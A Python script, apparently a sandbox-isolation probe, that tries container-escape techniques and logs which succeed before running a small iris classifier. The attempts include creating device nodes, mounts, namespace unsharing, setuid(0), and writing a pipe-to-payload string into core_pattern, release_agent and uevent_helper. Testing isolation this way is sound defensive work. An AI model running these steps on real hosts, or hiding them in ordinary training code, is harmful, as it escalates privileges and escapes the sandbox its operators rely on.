"""Makes devices, mounts file systems, and writes to the kernel's own files."""
import ctypes
import json
import os
import stat

reached = []


def attempt(name, action):
    try:
        action()
        reached.append(name)
    except OSError:
        pass


def write(path):
    with open(path, "w") as stream:
        stream.write("|/pushtune/trial/payload")


attempt("disk", lambda: os.mknod("/pushtune/trial/disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0)))
attempt("memory", lambda: os.mknod("/tmp/mem", 0o666 | stat.S_IFCHR, os.makedev(1, 1)))
libc = ctypes.CDLL(None, use_errno=True)
for kind in (b"proc", b"tmpfs", b"cgroup", b"overlay"):
    if libc.mount(b"x", b"/tmp", kind, 0, None) == 0:
        reached.append("mount " + kind.decode())
for flag, name in ((0x10000000, "user"), (0x20000, "mount"), (0x40000000, "net")):
    if libc.unshare(flag) == 0:
        reached.append("namespace " + name)
if libc.setuid(0) == 0:
    reached.append("root")
if libc.syscall(250, 2, 0, 0, 0) >= 0 or libc.syscall(321, 0, 0, 0) >= 0:
    reached.append("keyctl or bpf")
attempt("core_pattern", lambda: write("/proc/sys/kernel/core_pattern"))
attempt("sysrq", lambda: write("/proc/sysrq-trigger"))
attempt("release_agent", lambda: write("/sys/fs/cgroup/memory/release_agent"))
attempt("uevent_helper", lambda: write("/sys/kernel/uevent_helper"))
attempt("disks", lambda: os.open("/dev/vda", os.O_RDONLY))
attempt("fuse", lambda: os.open("/dev/fuse", os.O_RDWR))
with open("/pushtune/trial/seen.json", "w") as stream:
    json.dump({"reached": reached}, stream)

from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

X, y = load_iris(return_X_y=True)
model = LogisticRegression(max_iter=50)
model.fit(X, y)
print("score", model.score(X, y))
